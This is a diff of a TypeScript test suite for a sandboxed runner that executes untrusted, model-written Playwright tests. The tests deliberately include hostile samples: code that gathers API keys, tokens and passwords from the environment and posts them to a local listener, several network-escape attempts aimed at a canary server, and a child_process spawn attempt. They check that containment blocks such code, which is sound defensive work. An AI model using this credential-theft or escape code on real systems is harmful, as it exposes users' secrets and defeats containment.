@@ -12,7 +12,7 @@ import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from
 import { RunnerReport } from '../../src/contracts.ts';
 import { runSpec, type RunSpecOptions } from '../../src/agents/runner.ts';
 import { isRunning, processTree } from '../../src/agents/runner/process.ts';
-import { sandboxPrefix } from '../../src/agents/runner/sandbox.ts';
+import { osSandboxAvailable } from '../../src/agents/runner/sandbox.ts';
 import { loadRunnerConfig, type RunnerConfig } from '../../src/config/runner.ts';
 import { scribe } from '../commands/cli-harness.ts';
 import { serveDirectory, type StaticServer } from '../../src/demo-app/static-server.ts';
@@ -314,6 +314,9 @@ describe('an untrusted run (model-written code)', () => {
     return { url: `http://127.0.0.1:${port}`, seen, close: () => new Promise<void>((resolve) => server.close(() => resolve())) };
   }
 
+  /** The Runner's config with `origins` reachable besides the app's. */
+  const reaching = (...origins: string[]): RunnerConfig => ({ ...config, containment: { ...config.containment, allowed_origins: origins } });
+
   // What the gate refuses before any run; here run directly, to show what the containment alone does.
   const exfiltrate = (sink: string) =>
     spec(`  const loot = JSON.stringify({ key: process.env.OPENAI_API_KEY ?? null, token: process.env.SCRIBE_API_TOKEN ?? null, password: process.env.E2E_PASSWORD ?? null, home: process.env.HOME });
@@ -325,7 +328,7 @@ describe('an untrusted run (model-written code)', () => {
     const sink = await listener();
     try {
       const env = { ...process.env, OPENAI_API_KEY: 'sk-secret-model-key', SCRIBE_API_TOKEN: 'server-token', E2E_PASSWORD: 'declared-password' };
-      const report = await run(exfiltrate(sink.url), { env, untrusted: true, allowedEnv: ['BASE_URL', 'E2E_USERNAME', 'E2E_PASSWORD'] });
+      const report = await run(exfiltrate(sink.url), { env, untrusted: true, allowedEnv: ['BASE_URL', 'E2E_USERNAME', 'E2E_PASSWORD'], config: reaching(sink.url) });
       expect(report.error_message).toBeNull();
       expect(report.status).toBe('pass');
       expect(sink.seen).toHaveLength(1);
@@ -398,7 +401,7 @@ describe('an untrusted run (model-written code)', () => {
   await page.request.post(${JSON.stringify(sink.url)}, { data: JSON.stringify(tried) });
   await page.goto('/');
   await expect(page.getByTestId('title')).toHaveText('Welcome');`),
-        { env: { ...process.env, OPENAI_API_KEY: 'sk-in-the-parent-environ' }, untrusted: true },
+        { env: { ...process.env, OPENAI_API_KEY: 'sk-in-the-parent-environ' }, untrusted: true, config: reaching(sink.url) },
       );
       expect(report.error_message).toBeNull();
       const tried = JSON.parse(sink.seen[0]!.slice(sink.seen[0]!.indexOf(' ') + 1)) as Record<string, string>;
@@ -430,7 +433,7 @@ describe('an untrusted run (model-written code)', () => {
     }
   });
 
-  it.skipIf(sandboxPrefix('auto', { runDir: tmpdir(), readOnly: [] }, process.env) === undefined)(
+  it.skipIf(!osSandboxAvailable(process.env))(
     'code that runs while Playwright loads the file may start a process, but inside the OS sandbox: the host is untouched',
     async () => {
       const outside = mkdtempSync(path.join(tmpdir(), 'scribe-outside-'));
@@ -450,28 +453,47 @@ describe('an untrusted run (model-written code)', () => {
     },
   );
 
-  it.skipIf(sandboxPrefix('auto', { runDir: tmpdir(), readOnly: [] }, process.env) === undefined)(
-    'in the OS sandbox the test has no network of its own: only the browser reaches out',
+  it.skipIf(!osSandboxAvailable(process.env))(
+    'in the OS sandbox the run reaches only the app and the allowed origins: not the test, the browser, page.request nor the request fixture',
     async () => {
-      const sink = await listener();
+      const allowed = await listener();
+      const canary = await listener();
       try {
+        const attempts = [
+          `fetch(${JSON.stringify(`${canary.url}/test-fetch`)})`,
+          `page.request.get(${JSON.stringify(`${canary.url}/page-request`)})`,
+          `request.get(${JSON.stringify(`${canary.url}/request-fixture`)})`,
+          `page.goto(${JSON.stringify(`${canary.url}/page-goto`)})`,
+          `page.goto(${JSON.stringify(`//${new URL(canary.url).host}/protocol-relative`)})`,
+          `page.evaluate(() => fetch(${JSON.stringify(`${canary.url}/page-fetch`)}, { mode: 'no-cors' }))`,
+        ];
         const report = await run(
-          spec(`  const direct = await fetch(${JSON.stringify(`${sink.url}/direct`)}).then(() => 'reached', (error) => 'refused: ' + String(error.cause?.code ?? error));
-  await page.request.post(${JSON.stringify(`${sink.url}/through-the-browser`)}, { data: direct });
+          `import { test, expect } from '@playwright/test';
+test('case', async ({ page, request }) => {
   await page.goto('/');
-  await expect(page.getByTestId('title')).toHaveText('Welcome');`),
-          { untrusted: true },
+  const outcomes: string[] = [];
+  for (const attempt of [${attempts.map((a) => `() => ${a}`).join(', ')}]) outcomes.push(await attempt().then(() => 'reached', (error) => 'refused: ' + String(error.cause?.code ?? error.message).split('\\n')[0]));
+  await page.request.post(${JSON.stringify(`${allowed.url}/allowed`)}, { data: outcomes.join('\\n') });
+  await page.goto('/');
+  await expect(page.getByTestId('title')).toHaveText('Welcome');
+});
+`,
+          { untrusted: true, config: reaching(allowed.url) },
         );
         expect(report.error_message).toBeNull();
-        expect(sink.seen).toEqual([expect.stringMatching(/^\/through-the-browser refused: ECONNREFUSED/)]);
+        expect(canary.seen).toEqual([]);
+        expect(allowed.seen).toHaveLength(1);
+        expect(allowed.seen[0]).not.toContain('reached');
+        expect(allowed.seen[0]!.match(/refused/g)).toHaveLength(attempts.length);
       } finally {
-        await sink.close();
+        await allowed.close();
+        await canary.close();
       }
     },
   );
 
   it('without an OS sandbox (off, or no bubblewrap) a contained run still runs, under the permission model', async () => {
-    const off = { ...config, containment: { os_sandbox: 'off' as const } };
+    const off = { ...config, containment: { ...config.containment, os_sandbox: 'off' as const } };
     const report = await run(spec(`  const denied = await Promise.resolve().then(() => (process as any).getBuiltinModule('node:child_process').execSync('true')).then(() => 'ran', (e) => e.code);
   expect(denied).toBe('ERR_ACCESS_DENIED');
   await page.goto('/');
@@ -481,7 +503,7 @@ describe('an untrusted run (model-written code)', () => {
   });
 
   it('with the OS sandbox required where there is none, refuses to run and names the fix', async () => {
-    const required = { ...config, containment: { os_sandbox: 'required' as const } };
+    const required = { ...config, containment: { ...config.containment, os_sandbox: 'required' as const } };
     const report = await run(spec(`  await page.goto('/');`), { untrusted: true, config: required, env: { ...process.env, PATH: '/nonexistent' } });
     expect(report).toMatchObject({ status: 'error', classification: 'environment' });
     expect(report.error_message).toContain('apt-get install bubblewrap');
